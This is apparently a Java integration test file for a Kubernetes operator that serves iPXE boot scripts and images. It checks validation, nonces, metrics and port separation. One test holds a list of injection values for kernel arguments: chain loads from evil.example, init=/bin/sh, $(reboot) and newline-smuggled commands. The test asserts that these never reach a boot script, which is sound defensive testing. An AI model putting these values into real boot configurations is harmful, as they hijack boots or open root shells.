package io.chrootbooter.operator;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.chrootbooter.api.v1alpha1.BootImage;
import io.chrootbooter.api.v1alpha1.BootImagePhase;
import io.chrootbooter.api.v1alpha1.MachineBoot;
import io.chrootbooter.api.v1alpha1.MachineBootSpec;
import io.chrootbooter.operator.status.Conditions;
import io.chrootbooter.protocol.MachinePhase;
import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.Event;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.api.model.HasMetadata;
import io.fabric8.kubernetes.api.model.NamespaceBuilder;
import io.fabric8.kubernetes.api.model.apiextensions.v1.CustomResourceDefinition;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.quarkus.test.common.http.TestHTTPResource;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.io.InputStream;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.AfterTestExecutionCallback;
import org.junit.jupiter.api.extension.ExtensionContext;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * What a user of the control plane checks, run against every Kubernetes backend: the fabric8 mock
 * server (always), K3s (where Docker answers) and a real cluster ({@code -Dcb.it.cluster=true}).
 * Each scenario works in a namespace of its own, applies the repository's examples as {@code
 * kubectl apply -f examples/} would, and reads what {@code kubectl get} and {@code curl} show.
 */
public abstract class ControlPlaneScenarios {
  private static final Duration TIMEOUT = Duration.ofSeconds(30);

  @Inject KubernetesClient client;

  /** On the admin port (the management interface: status page, health, metrics), {@code /q/}. */
  @TestHTTPResource(value = "/", management = true)
  URL adminUrl;

  /** The machine port: {@code /boot}, {@code /bootstrap}, {@code /images}, {@code /agent}. */
  @TestHTTPResource("/")
  URL machineUrl;

  /** Serves the examples' images on loopback; their URLs and digests are rewritten to it. */
  static ImageServer images;

  static final Map<String, byte[]> EXAMPLE_IMAGES = new LinkedHashMap<>();

  @org.junit.jupiter.api.BeforeAll
  static void startImageServer() throws java.io.IOException {
    images = new ImageServer();
    EXAMPLE_IMAGES.put("debian-12", fakeImage(new byte[] {'h', 's', 'q', 's'}, 1));
    EXAMPLE_IMAGES.put("busybox", fakeImage(new byte[] {0x28, (byte) 0xb5, 0x2f, (byte) 0xfd}, 2));
  }

  @org.junit.jupiter.api.AfterAll
  static void stopImageServer() {
    images.close();
  }

  /** Bytes that start with a format's magic: enough for the operator, which only sniffs. */
  static byte[] fakeImage(byte[] magic, int seed) {
    byte[] bytes = new byte[256 * 1024];
    new java.util.Random(seed).nextBytes(bytes);
    System.arraycopy(magic, 0, bytes, 0, magic.length);
    return bytes;
  }

  /** The digest of an example image as served in the tests. */
  static String exampleSha(String name) {
    return ImageServer.sha256(EXAMPLE_IMAGES.get(name));
  }

  static KubernetesClient dumpClient;
  static String namespace;

  @RegisterExtension
  static final AfterTestExecutionCallback DUMP_ON_FAILURE = ControlPlaneScenarios::dumpOnFailure;

  String ns;

  @BeforeEach
  void createNamespace() {
    ns = "cb-" + UUID.randomUUID().toString().substring(0, 8);
    client
        .namespaces()
        .resource(new NamespaceBuilder().withNewMetadata().withName(ns).endMetadata().build())
        .create();
    dumpClient = client;
    namespace = ns;
  }

  @AfterEach
  void deleteNamespace() {
    client.resources(MachineBoot.class).inNamespace(ns).delete();
    client.resources(BootImage.class).inNamespace(ns).delete();
    client.namespaces().withName(ns).delete();
  }

  @Test
  void examplesBecomeReadyImagesAndPendingMachines() {
    applyExamples();

    BootImage debian = awaitImage("debian-12", i -> i.getStatus().phase() == BootImagePhase.Ready);
    assertThat(columns(debian)).containsEntry("Phase", "Ready").containsEntry("Format", "squashfs");
    assertThat(condition(debian.getStatus().conditions(), "Ready").getStatus()).isEqualTo("True");
    assertThat(debian.getStatus().observedGeneration())
        .isEqualTo(debian.getMetadata().getGeneration());
    BootImage busybox = awaitImage("busybox", i -> i.getStatus().phase() == BootImagePhase.Ready);
    assertThat(columns(busybox)).containsEntry("Format", "tar.zst");

    MachineBoot m1 =
        awaitMachine("m1", m -> hasCondition(m, "Reconciling", "True", "WaitingForAgent"));
    assertThat(columns(m1)).containsEntry("Phase", "Pending").containsEntry("Image", "debian-12");
    assertThat(condition(m1.getStatus().conditions(), "Ready").getStatus()).isEqualTo("False");
    assertThat(condition(m1.getStatus().conditions(), "Stalled").getStatus()).isEqualTo("False");
    assertThat(m1.getStatus().observedGeneration()).isEqualTo(m1.getMetadata().getGeneration());

    MachineBoot m2 =
        awaitMachine("m2", m -> hasCondition(m, "Reconciling", "True", "WaitingForAgent"));
    assertThat(columns(m2)).containsEntry("Phase", "Pending");
    assertThat(m2.getStatus().phase()).isEqualTo(MachinePhase.Pending);
  }

  @Test
  void machineGetsItsBootScriptInAnyMacNotation() {
    applyExamples();
    awaitImage("debian-12", i -> i.getStatus().phase() == BootImagePhase.Ready);
    for (String mac :
        List.of(
            "52:54:00:12:34:56",
            "52-54-00-12-34-56",
            "52:54:00:12:34:56".toUpperCase(),
            "525400123456")) {
      String script = awaitScript(mac, s -> s.contains("cb.image="));
      assertThat(script)
          .startsWith("#!ipxe\n")
          .contains("/bootstrap/vmlinuz?mac=52:54:00:12:34:56 ")
          .contains("initrd --name initramfs ")
          .contains(" cb.mac=52:54:00:12:34:56 ")
          .contains(" BOOTIF=01-52-54-00-12-34-56 ")
          .contains("/images/" + exampleSha("debian-12") + " ")
          .contains(" cb.sha256=" + exampleSha("debian-12") + " ")
          .contains(" cb.format=squashfs ")
          .contains(" systemd.show_status=1")
          .endsWith("boot\n");
    }
    String m2 = awaitScript("52:54:00:12:34:57", s -> s.contains("cb.mac=52:54:00:12:34:57"));
    assertThat(m2).doesNotContain("cb.image=");

    String script = script("52:54:00:12:34:56");
    // A client that percent-encodes the colons gets the same script.
    assertThat(
            given()
                .urlEncodingEnabled(false)
                .get("/boot/52%3A54%3A00%3A12%3A34%3A56.ipxe")
                .then()
                .statusCode(200)
                .extract()
                .asString()
                .replaceAll(" cb\\.nonce=[^ ]+ ", " cb.nonce=… "))
        .as("the same script, with a fresh nonce")
        .isEqualTo(script.replaceAll(" cb\\.nonce=[^ ]+ ", " cb.nonce=… "));
    given()
        .head("/boot/52-54-00-12-34-56.ipxe")
        .then()
        .statusCode(200)
        .contentType(org.hamcrest.Matchers.startsWith("text/plain"))
        .header(
            "Content-Length",
            String.valueOf(script.getBytes(java.nio.charset.StandardCharsets.UTF_8).length));
  }

  @Test
  void theScriptCarriesAFreshOneTimeNonceAndNoCredential() {
    applyExamples();
    String script = awaitScript("52:54:00:12:34:56", s -> s.contains("cb.nonce="));
    assertThat(script).doesNotContain("cb.token=");
    String nonce1 = nonceOf(script);
    String nonce2 = nonceOf(script("52:54:00:12:34:56"));
    String other = nonceOf(awaitScript("52:54:00:12:34:57", s -> s.contains("cb.nonce=")));
    assertThat(nonce1)
        .matches(
            "[A-Za-z0-9_-]{" + io.chrootbooter.operator.token.BootCredentials.NONCE_CHARS + "}")
        .as("every script has a nonce of its own")
        .isNotEqualTo(nonce2)
        .isNotEqualTo(other);
  }

  @Test
  void unknownAndMalformedMacs() {
    applyExamples();
    awaitScript("52:54:00:12:34:56", s -> s.contains("cb.mac="));
    given()
        .get("/boot/52:54:00:99:99:99.ipxe")
        .then()
        .statusCode(404)
        .body(org.hamcrest.Matchers.containsString("exit"));
    given().get("/boot/not-a-mac.ipxe").then().statusCode(400);
    given().get("/boot/52:54:00:12:34:56:00.ipxe").then().statusCode(400);
    given().get("/boot/52:54:00:12:34:56").then().statusCode(404);
    given().get("/boot/52:54:00:12:34:56/x.ipxe").then().statusCode(404);
  }

  @Test
  void changingTheImageFollowsTheGenerationAndTheScript() {
    applyExamples();
    MachineBoot before = awaitMachine("m1", m -> m.getStatus().observedGeneration() != null);
    awaitScript("52:54:00:12:34:56", s -> s.contains(exampleSha("debian-12")));

    MachineBoot edited =
        client
            .resources(MachineBoot.class)
            .inNamespace(ns)
            .withName("m1")
            .edit(
                m -> {
                  m.setSpec(withImage(m.getSpec(), "busybox"));
                  return m;
                });
    long generation = edited.getMetadata().getGeneration();
    assertThat(generation).isGreaterThan(before.getMetadata().getGeneration());

    MachineBoot after =
        awaitMachine(
            "m1", m -> Long.valueOf(generation).equals(m.getStatus().observedGeneration()));
    assertThat(columns(after)).containsEntry("Image", "busybox");
    assertThat(awaitScript("52:54:00:12:34:56", s -> s.contains(exampleSha("busybox"))))
        .contains(" cb.format=tar.zst ")
        .doesNotContain(exampleSha("debian-12"));
  }

  @Test
  void deletingTheImageLeavesTheMachineWaitingForIt() {
    applyExamples();
    awaitMachine("m1", m -> hasCondition(m, "Reconciling", "True", "WaitingForAgent"));
    client.resources(BootImage.class).inNamespace(ns).withName("debian-12").delete();
    MachineBoot m1 =
        awaitMachine("m1", m -> hasCondition(m, "Reconciling", "True", "WaitingForImage"));
    assertThat(condition(m1.getStatus().conditions(), "Reconciling").getMessage())
        .isEqualTo("BootImage " + ns + "/debian-12 does not exist");
    assertThat(awaitScript("52:54:00:12:34:56", s -> !s.contains("cb.image="))).contains("cb.mac=");

    // The image coming back is picked up from the watch, without polling.
    applyExample("bootimage-debian-12.yaml");
    awaitMachine("m1", m -> hasCondition(m, "Reconciling", "True", "WaitingForAgent"));
  }

  @Test
  void invalidMachineSpecsStallWithTheFieldValueAndRule() {
    applyExamples();
    Map<String, Map<String, Object>> cases = new LinkedHashMap<>();
    cases.put(
        "spec.macAddress: \"52-54-00-AB-CD-EF\" is not a MAC address in lower-case colon notation"
            + " (^([0-9a-f]{2}:){5}[0-9a-f]{2}$); write \"52:54:00:ab:cd:ef\"",
        Map.of("macAddress", "52-54-00-AB-CD-EF", "imageRef", "debian-12"));
    cases.put(
        "spec: exactly one of imageRef and state: Bootstrap must be set",
        Map.of("macAddress", "52:54:00:00:00:02", "imageRef", "debian-12", "state", "Bootstrap"));
    cases.put(
        "spec.kernelArgs[1]: \"quiet;reboot\" is not a safe kernel argument (a lower-case key of"
            + " letters, digits and _ . : / , + @ -, at most 128 characters, not starting with"
            + " '-'; then optionally = and a value of letters, digits and _ . : / , = + @ -, at"
            + " most 255)",
        Map.of(
            "macAddress",
            "52:54:00:00:00:03",
            "imageRef",
            "debian-12",
            "kernelArgs",
            List.of("quiet", "quiet;reboot")));
    cases.put(
        "spec.overlay: \"/tmp/disk\" is not tmpfs, none or a block device path under /dev/",
        Map.of("macAddress", "52:54:00:00:00:04", "imageRef", "debian-12", "overlay", "/tmp/disk"));
    cases.put(
        "spec.bootTimeout: \"soon\" is not a duration such as 90s, 5m or 1h30m",
        Map.of("macAddress", "52:54:00:00:00:05", "state", "Bootstrap", "bootTimeout", "soon"));
    cases.put(
        "spec.kernelArgs[0]: \"rdinit=/bin/sh\" sets a reserved argument; init=, rdinit=, initrd=,"
            + " bootif=, cb.* and cb_* are set by the operator and the bootstrap",
        Map.of(
            "macAddress",
            "52:54:00:00:00:06",
            "state",
            "Bootstrap",
            "kernelArgs",
            List.of("rdinit=/bin/sh")));
    int i = 0;
    for (var c : cases.entrySet()) {
      String name = "bad-" + i++;
      Optional<String> rejected = createRaw("MachineBoot", name, c.getValue());
      if (rejected.isPresent()) {
        // An API server that applies the schema refuses the object outright.
        assertThat(rejected.get()).contains("spec");
        continue;
      }
      MachineBoot mb = awaitMachine(name, m -> hasCondition(m, "Stalled", "True", "InvalidSpec"));
      assertThat(condition(mb.getStatus().conditions(), "Stalled").getMessage())
          .isEqualTo(c.getKey());
      assertThat(condition(mb.getStatus().conditions(), "Ready").getStatus()).isEqualTo("False");
      awaitEvent(name, "Warning", "InvalidSpec", c.getKey());
    }
  }

  @Test
  void invalidImageSpecsStall() {
    Map<String, Map<String, Object>> cases = new LinkedHashMap<>();
    cases.put(
        "spec.sha256: \"abc1\" is not 64 lower-case hex digits",
        Map.of("source", Map.of("url", "http://images.lab.internal/a.squashfs"), "sha256", "abc1"));
    cases.put(
        "spec.sha256: required unless insecureSkipVerify is true",
        Map.of("source", Map.of("url", "http://images.lab.internal/a.squashfs")));
    cases.put(
        "spec.source.url: \"ftp://images.lab.internal/a.squashfs\" is not an http or https URL with"
            + " a host (no spaces or quotes)",
        Map.of(
            "source",
            Map.of("url", "ftp://images.lab.internal/a.squashfs"),
            "insecureSkipVerify",
            true));
    cases.put(
        "spec.format: required, since the URL \"http://images.lab.internal/image\" does not end in"
            + " one of .squashfs, .sqfs, .sfs, .img, .tar, .tar.gz, .tgz, .tar.xz, .txz, .tar.zst,"
            + " .tzst, .tar.zstd",
        Map.of(
            "source",
            Map.of("url", "http://images.lab.internal/image"),
            "insecureSkipVerify",
            true));
    cases.put(
        "spec.stop.signal: \"SIGKILL\" is not a power-off signal: SIGHUP, SIGINT, SIGQUIT, SIGTERM,"
            + " SIGUSR1, SIGUSR2, SIGPWR or SIGRTMIN+n with n from 0 to 30",
        Map.of(
            "source",
            Map.of("url", "http://images.lab.internal/a.squashfs"),
            "insecureSkipVerify",
            true,
            "stop",
            Map.of("signal", "SIGKILL")));
    cases.put(
        "spec.stop.gracePeriod: \"11m\" is longer than the longest grace period, 10m",
        Map.of(
            "source",
            Map.of("url", "http://images.lab.internal/a.squashfs"),
            "insecureSkipVerify",
            true,
            "stop",
            Map.of("signal", "SIGTERM", "gracePeriod", "11m")));
    cases.put(
        "spec.stop.gracePeriod: \"1.5s\" is not a duration such as 500ms, 30s or 2m",
        Map.of(
            "source",
            Map.of("url", "http://images.lab.internal/a.squashfs"),
            "insecureSkipVerify",
            true,
            "stop",
            Map.of("gracePeriod", "1.5s")));
    cases.put(
        "spec.delivery: \"Lazy\" is for squashfs images only; this image is tar.zst (use"
            + " Download)",
        Map.of(
            "source",
            Map.of("url", "http://images.lab.internal/a.tar.zst"),
            "insecureSkipVerify",
            true,
            "delivery",
            "Lazy"));
    int i = 0;
    for (var c : cases.entrySet()) {
      String name = "bad-" + i++;
      Optional<String> rejected = createRaw("BootImage", name, c.getValue());
      if (rejected.isPresent()) {
        assertThat(rejected.get()).contains("spec");
        continue;
      }
      BootImage image = awaitImage(name, b -> b.getStatus().phase() == BootImagePhase.Failed);
      assertThat(condition(image.getStatus().conditions(), "Stalled").getMessage())
          .isEqualTo(c.getKey());
      assertThat(columns(image)).containsEntry("Phase", "Failed");
      awaitEvent(name, "Warning", "InvalidSpec", c.getKey());
    }
  }

  @Test
  void hostileValuesNeverReachTheScript() {
    applyExamples();
    List<String> hostile =
        List.of(
            "quiet\nchain http://evil.example/x.ipxe",
            "${net0/mac}",
            "a||shell",
            "chain http://evil.example/",
            "initrd=http://evil.example/initrd",
            "cb.nonce=forged",
            "console=ttyS0 init=/bin/sh",
            "--",
            "-- init=/bin/sh",
            "init\u2044bin\u2044sh",
            "quiet\u037e reboot",
            "a`reboot`",
            "$(reboot)",
            "\"quoted\"",
            "x".repeat(300),
            "init=/bin/sh",
            "rdinit=/bin/sh",
            "CB_DEBUG=1",
            "JAVA_TOOL_OPTIONS=-javaagent:/x.jar",
            "cb_debug=1",
            "BOOTIF=01-52-54-00-12-34-56");
    int i = 0;
    for (String value : hostile) {
      String mac = String.format("52:54:00:aa:00:%02x", i);
      String name = "hostile-" + i++;
      Optional<String> rejected =
          createRaw(
              "MachineBoot",
              name,
              Map.of(
                  "macAddress",
                  mac,
                  "imageRef",
                  "debian-12",
                  "kernelArgs",
                  List.of("quiet", value)));
      if (rejected.isPresent()) {
        continue;
      }
      awaitMachine(name, m -> hasCondition(m, "Stalled", "True", "InvalidSpec"));
      String script = awaitScript(mac, s -> s.contains("invalid spec"));
      assertThat(script)
          .as("script for kernel argument %s", value)
          .isEqualTo(
              "#!ipxe\necho Chroot Booter: MachineBoot "
                  + ns
                  + "/"
                  + name
                  + " has an invalid spec; see kubectl describe\nexit 1\n");
    }
  }

  @Test
  void theScriptFollowsEveryEditWhileMachinesAskForIt() throws InterruptedException {
    applyExamples();
    String mac = "52:54:00:12:34:56";
    awaitScript(mac, s -> s.contains("cb.mac="));
    // Machines keep asking while the MachineBoot changes: each edit reaches the script within the
    // informer's lag, and a client never gets an older script after a newer one.
    int clients = 4;
    java.util.concurrent.ExecutorService pool =
        java.util.concurrent.Executors.newFixedThreadPool(clients);
    java.util.concurrent.atomic.AtomicBoolean stop =
        new java.util.concurrent.atomic.AtomicBoolean();
    List<String> regressions = new java.util.concurrent.CopyOnWriteArrayList<>();
    java.util.concurrent.atomic.AtomicLong requests = new java.util.concurrent.atomic.AtomicLong();
    try {
      for (int c = 0; c < clients; c++) {
        pool.execute(
            () -> {
              int newest = 0;
              while (!stop.get()) {
                int round = roundOf(script(mac));
                requests.incrementAndGet();
                if (round < newest) {
                  regressions.add("round " + round + " after round " + newest);
                }
                newest = Math.max(newest, round);
              }
            });
      }
      for (int round = 1; round <= 5; round++) {
        List<String> args = List.of("systemd.show_status=1", "round=" + round);
        client
            .resources(MachineBoot.class)
            .inNamespace(ns)
            .withName("m1")
            .edit(
                m -> {
                  m.setSpec(withKernelArgs(m.getSpec(), args));
                  return m;
                });
        int expected = round;
        awaitScript(mac, s -> roundOf(s) == expected);
      }
      for (int i = 0; i < 20; i++) {
        assertThat(roundOf(script(mac))).isEqualTo(5);
      }
    } finally {
      stop.set(true);
      pool.shutdown();
      assertThat(pool.awaitTermination(30, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
    }
    assertThat(requests.get()).isGreaterThan(clients);
    assertThat(regressions).isEmpty();
  }

  /** The {@code round=N} kernel argument the script ends its kernel line with; 0 for none. */
  static int roundOf(String script) {
    var m = java.util.regex.Pattern.compile(" round=([0-9]+)\n").matcher(script);
    return m.find() ? Integer.parseInt(m.group(1)) : 0;
  }

  @Test
  void duplicateMacIsStalledAndTheOlderMachineKeepsIt() {
    applyExamples();
    awaitMachine("m1", m -> m.getStatus() != null);
    Optional<String> rejected =
        createRaw(
            "MachineBoot",
            "m1-copy",
            Map.of("macAddress", "52:54:00:12:34:56", "state", "Bootstrap"));
    assertThat(rejected).isEmpty();
    MachineBoot copy =
        awaitMachine("m1-copy", m -> hasCondition(m, "Stalled", "True", "DuplicateMacAddress"));
    assertThat(condition(copy.getStatus().conditions(), "Stalled").getMessage())
        .isEqualTo(
            "spec.macAddress: 52:54:00:12:34:56 is already claimed by MachineBoot " + ns + "/m1");
    assertThat(script("52:54:00:12:34:56")).contains("MachineBoot " + ns + "/m1\n");
  }

  @Test
  void healthAndMetrics() {
    applyExamples();
    awaitMachine("m1", m -> m.getStatus() != null);
    admin().get("/q/health/ready").then().statusCode(200);
    admin().get("/q/health/live").then().statusCode(200);
    awaitScript("52:54:00:12:34:56", s -> s.contains("cb.mac="));
    awaitScript("52:54:00:12:34:57", s -> s.contains("cb.mac="));
    await()
        .atMost(TIMEOUT)
        .untilAsserted(
            () -> {
              String metrics =
                  admin().get("/q/metrics").then().statusCode(200).extract().asString();
              assertThat(metrics)
                  .contains("chrootbooter_reconcile_seconds_count{kind=\"MachineBoot\"")
                  .contains("chrootbooter_reconcile_seconds_count{kind=\"BootImage\"")
                  .containsPattern("chrootbooter_machines\\{phase=\"Pending\"[^}]*\\} [1-9]")
                  // Without leader election (the test profile) the one replica reconciles.
                  .contains("chrootbooter_leader 1.0")
                  // One series for the endpoint, not one per machine.
                  .containsPattern(
                      "http_server_requests_seconds_count\\{[^}]*uri=\"/boot/\\{mac\\}\\.ipxe\"")
                  .doesNotContain("uri=\"/boot/52");
            });
  }

  @Test
  void machinePortServesMachinesOnlyAndAdminPortServesPeople() throws Exception {
    applyExamples();
    awaitImage("debian-12", i -> i.getStatus().phase() == BootImagePhase.Ready);
    String mac = "52:54:00:12:34:56";
    String sha = exampleSha("debian-12");
    assertThat(adminUrl.getPort()).as("two listeners").isNotEqualTo(machineUrl.getPort());

    // The machine port: the iPXE script, the image and the agent API, and nothing else.
    assertThat(awaitScript(mac, s -> s.contains("cb.mac=" + mac))).startsWith("#!ipxe");
    // The image route answers (without a session: refused; EnrolmentScenarios fetches with one).
    given().get("/images/" + sha).then().statusCode(401);
    assertThat(given().get("/agent/v1/machines/" + mac + "/desired").statusCode())
        .as("the agent API answers (without a token: refused)")
        .isIn(401, 403);
    for (String path :
        List.of(
            "/",
            "/status/events",
            "/q/metrics",
            "/q/health",
            "/q/health/ready",
            "/q/health/live")) {
      var response = given().get(path);
      assertThat(response.statusCode()).as("GET %s on the machine port", path).isEqualTo(404);
      assertThat(response.asString()).as("GET %s on the machine port", path).doesNotContain(mac);
    }

    // The admin port: the status page with its stream, health and metrics, and no machine route.
    await()
        .atMost(TIMEOUT)
        .untilAsserted(
            () ->
                assertThat(admin().get("/").then().statusCode(200).extract().asString())
                    .contains(ns)
                    .contains(mac));
    admin().get("/q/health/ready").then().statusCode(200);
    assertThat(admin().get("/q/metrics").then().statusCode(200).extract().asString())
        .contains("chrootbooter_machines");
    HttpResponse<InputStream> events =
        HttpClient.newHttpClient()
            .send(
                HttpRequest.newBuilder(adminUrl.toURI().resolve("/status/events")).build(),
                HttpResponse.BodyHandlers.ofInputStream());
    try (InputStream body = events.body()) {
      assertThat(events.statusCode()).isEqualTo(200);
      assertThat(events.headers().firstValue("Content-Type").orElse(""))
          .startsWith("text/event-stream");
    }
    for (String path :
        List.of(
            "/boot/" + mac + ".ipxe",
            "/images/" + sha,
            "/bootstrap/vmlinuz",
            "/agent/v1/machines/" + mac + "/desired")) {
      assertThat(admin().get(path).statusCode())
          .as("GET %s on the admin port", path)
          .isEqualTo(404);
    }
  }

  // --- what a user does and sees ---------------------------------------------------------

  /** A request to the admin port. */
  RequestSpecification admin() {
    return given().port(adminUrl.getPort());
  }

  void applyExamples() {
    Repo.yamlFiles("examples").forEach(f -> applyExample(f.getFileName().toString()));
  }

  void applyExample(String file) {
    for (HasMetadata item : Repo.load(client, Repo.ROOT.resolve("examples").resolve(file))) {
      item.getMetadata().setNamespace(ns);
      if (item instanceof GenericKubernetesResource raw && "BootImage".equals(raw.getKind())) {
        // The lab's image host is this test's loopback server, with the same file names.
        @SuppressWarnings("unchecked")
        Map<String, Object> spec = (Map<String, Object>) raw.getAdditionalProperties().get("spec");
        @SuppressWarnings("unchecked")
        Map<String, Object> source = (Map<String, Object>) spec.get("source");
        String fileName = ((String) source.get("url")).replaceAll("^.*/", "");
        byte[] bytes = EXAMPLE_IMAGES.get(raw.getMetadata().getName());
        source.put("url", images.url(fileName));
        spec.put("sha256", images.put(fileName, bytes));
      } else if (item instanceof BootImage image) {
        throw new IllegalStateException("examples load as generic resources; got " + image);
      }
      client.resource(item).inNamespace(ns).create();
    }
  }

  /** Creates an object from a raw spec, as kubectl would; the API server's refusal, if any. */
  Optional<String> createRaw(String kind, String name, Map<String, Object> spec) {
    GenericKubernetesResource raw = new GenericKubernetesResource();
    raw.setApiVersion(BootImage.GROUP + "/" + BootImage.VERSION);
    raw.setKind(kind);
    raw.setMetadata(
        new io.fabric8.kubernetes.api.model.ObjectMetaBuilder()
            .withName(name)
            .withNamespace(ns)
            .build());
    raw.setAdditionalProperty("spec", spec);
    try {
      client.resource(raw).inNamespace(ns).create();
      return Optional.empty();
    } catch (KubernetesClientException e) {
      assertThat(e.getCode()).as("API server refusal of %s", name).isEqualTo(422);
      return Optional.of(e.getMessage());
    }
  }

  /** The printer columns of the object, as {@code kubectl get} shows them. */
  Map<String, String> columns(HasMetadata resource) {
    String plural =
        resource instanceof BootImage
            ? "bootimages"
            : resource instanceof io.chrootbooter.api.v1alpha1.BootTest
                ? "boottests"
                : "machineboots";
    CustomResourceDefinition crd =
        Repo.crds(client).stream()
            .filter(c -> c.getSpec().getNames().getPlural().equals(plural))
            .findFirst()
            .orElseThrow();
    @SuppressWarnings("unchecked")
    Map<String, Object> tree =
        client.getKubernetesSerialization().convertValue(resource, Map.class);
    Map<String, String> columns = new LinkedHashMap<>();
    for (var column : crd.getSpec().getVersions().get(0).getAdditionalPrinterColumns()) {
      Object value = tree;
      for (String part : column.getJsonPath().substring(1).split("\\.")) {
        value = value instanceof Map<?, ?> map ? map.get(part) : null;
      }
      columns.put(column.getName(), value == null ? "" : value.toString());
    }
    return columns;
  }

  String script(String mac) {
    return given().get("/boot/" + mac + ".ipxe").then().extract().asString();
  }

  String awaitScript(String mac, java.util.function.Predicate<String> ready) {
    return await().atMost(TIMEOUT).until(() -> script(mac), ready);
  }

  static String nonceOf(String script) {
    return script.replaceAll("(?s).* cb\\.nonce=([^ \\n]+).*", "$1");
  }

  BootImage awaitImage(String name, java.util.function.Predicate<BootImage> ready) {
    return await()
        .atMost(TIMEOUT)
        .until(
            () -> client.resources(BootImage.class).inNamespace(ns).withName(name).get(),
            i -> i != null && i.getStatus() != null && ready.test(i));
  }

  MachineBoot awaitMachine(String name, java.util.function.Predicate<MachineBoot> ready) {
    return await()
        .atMost(TIMEOUT)
        .until(
            () -> client.resources(MachineBoot.class).inNamespace(ns).withName(name).get(),
            m -> m != null && m.getStatus() != null && ready.test(m));
  }

  void awaitEvent(String name, String type, String reason, String message) {
    await()
        .atMost(TIMEOUT)
        .untilAsserted(
            () ->
                assertThat(client.v1().events().inNamespace(ns).list().getItems())
                    .anySatisfy(
                        (Event e) -> {
                          assertThat(e.getInvolvedObject().getName()).isEqualTo(name);
                          assertThat(e.getType()).isEqualTo(type);
                          assertThat(e.getReason()).isEqualTo(reason);
                          assertThat(e.getMessage()).isEqualTo(message);
                        }));
  }

  static boolean hasCondition(MachineBoot m, String type, String status, String reason) {
    return Conditions.find(m.getStatus().conditions(), type)
        .map(c -> status.equals(c.getStatus()) && reason.equals(c.getReason()))
        .orElse(false);
  }

  static Condition condition(List<Condition> conditions, String type) {
    return Conditions.find(conditions, type)
        .orElseThrow(() -> new AssertionError("no " + type + " condition in " + conditions));
  }

  static MachineBootSpec withKernelArgs(MachineBootSpec s, List<String> kernelArgs) {
    return new MachineBootSpec(
        s.macAddress(),
        s.uuid(),
        s.imageRef(),
        s.state(),
        kernelArgs,
        s.overlay(),
        s.returnTriggers(),
        s.bootTimeout());
  }

  static MachineBootSpec withImage(MachineBootSpec s, String image) {
    return new MachineBootSpec(
        s.macAddress(),
        s.uuid(),
        image,
        null,
        s.kernelArgs(),
        s.overlay(),
        s.returnTriggers(),
        s.bootTimeout());
  }

  /** On failure, prints what a human would look at: every object's status and the events. */
  private static void dumpOnFailure(ExtensionContext context) {
    if (context.getExecutionException().isEmpty() || dumpClient == null) {
      return;
    }
    var serialization = dumpClient.getKubernetesSerialization();
    System.err.println("=== " + context.getDisplayName() + " failed; namespace " + namespace);
    dumpClient
        .resources(BootImage.class)
        .inNamespace(namespace)
        .list()
        .getItems()
        .forEach(i -> System.err.println(serialization.asYaml(i)));
    dumpClient
        .resources(MachineBoot.class)
        .inNamespace(namespace)
        .list()
        .getItems()
        .forEach(m -> System.err.println(serialization.asYaml(m)));
    dumpClient
        .v1()
        .events()
        .inNamespace(namespace)
        .list()
        .getItems()
        .forEach(
            e ->
                System.err.println(
                    e.getType()
                        + " "
                        + e.getReason()
                        + " "
                        + e.getInvolvedObject().getName()
                        + ": "
                        + e.getMessage()));
  }
}
